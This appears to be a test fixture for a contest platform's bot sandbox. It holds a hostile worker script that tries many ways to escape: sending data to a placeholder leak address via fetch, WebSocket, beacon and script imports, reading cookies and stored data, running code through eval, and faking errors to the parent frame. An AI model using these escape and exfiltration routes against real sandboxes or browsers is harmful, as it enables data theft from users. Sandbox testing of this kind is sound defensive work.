/** A bot that tries to break out, by every way that a worker knows; `{leak}` is an address that counts who comes. */
export const ESCAPES = `
const leak = '{leak}';
const tries = {
  'nothing forbidden': () => crypto.getRandomValues(new Uint8Array(1)),
  fetch: () => fetch(leak + 'fetch', { mode: 'no-cors' }),
  'fetch, keepalive': () => fetch(leak + 'keepalive', { mode: 'no-cors', keepalive: true }),
  'fetch of our own server': () => fetch('{home}/api/v1/contests'),
  'fetch of a page': () => fetch('{home}/', { mode: 'no-cors' }),
  'fetch of data': () => fetch('data:text/plain,x'),
  XMLHttpRequest() {
    const request = new XMLHttpRequest();
    request.open('GET', leak + 'xhr', false);
    request.send();
  },
  WebSocket: () => opens(new WebSocket(leak.replace('http', 'ws') + 'socket')),
  'WebSocket of our own server': () => opens(new WebSocket('{home}/api/v1/bot'.replace('http', 'ws'))),
  EventSource: () => opens(new EventSource(leak + 'events')),
  WebTransport: () => new WebTransport(leak.replace('http:', 'https:') + 'transport').ready,
  sendBeacon: () => navigator.sendBeacon(leak + 'beacon') || refuse(),
  RTCPeerConnection: () => new RTCPeerConnection(),
  FontFace: () => new FontFace('leak', 'url(' + leak + 'font)').load(),
  importScripts: () => importScripts(leak + 'script.js'),
  'importScripts of our own server': () => importScripts('{home}/sw.js'),
  'importScripts of data': () => importScripts('data:text/javascript,1'),
  'importScripts of a blob': () => importScripts(blob('1')),
  import: () => import(leak + 'module.js'),
  'import of our own server': () => import('{home}/sw.js'),
  'import of data': () => import('data:text/javascript,export default 1'),
  'import of a blob': () => import(blob('export default 1')),
  eval: () => eval('1'),
  'eval, indirect': () => (0, eval)('1'),
  Function: () => new Function('return 1')(),
  'Function of a generator': () => (function* () {}).constructor('yield 1')().next(),
  'setTimeout of a text': () =>
    new Promise((resolve, reject) => {
      self.ran = resolve;
      setTimeout('self.ran()', 0);
      setTimeout(reject, 100);
    }),
  WebAssembly: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  Worker: () => new Worker(blob('1')),
  SharedWorker: () => new SharedWorker(blob('1')),
  serviceWorker: () => navigator.serviceWorker.register('{home}/sw.js'),
  localStorage: () => localStorage.getItem('stammtisch.settings'),
  sessionStorage: () => sessionStorage.length,
  cookie: () => document.cookie,
  cookieStore: () => cookieStore.getAll(),
  indexedDB: () =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open('stammtisch');
      request.onsuccess = resolve;
      request.onerror = reject;
    }),
  caches: () => caches.keys(),
  'files of the origin': () => navigator.storage.getDirectory(),
  locks: () => navigator.locks.request('x', () => 1),
  parent: () => parent.document,
  top: () => (top.location = leak + 'top'),
  opener: () => opener.location,
  location: () => location.assign(leak + 'location'),
  open: () => open(leak + 'open'),
  Notification: () => Notification.permission === 'granted' || refuse(),
};
const refuse = () => {
  throw new Error('refused');
};
const blob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
const opens = (source) =>
  new Promise((resolve, reject) => {
    source.onopen = resolve;
    source.onerror = reject;
  });
const attempt = async ([name, act]) => {
  try {
    await act();
    return name;
  } catch {
    return undefined;
  }
};
// A lie to the frame, which listens to nothing but errors, and to others who might share a channel.
self.postMessage({ failed: 'a lie', line: 1 });
new BroadcastChannel('stammtisch').postMessage('leak');
void Promise.all(Object.entries(tries).map(attempt)).then((all) => {
  const out = all.filter((name) => name !== undefined);
  console.log('tried ' + all.length + ', out by: ' + out.join(', '));
  setTimeout(() => {
    throw new Error('that was all');
  });
});
function answer() {}
`;
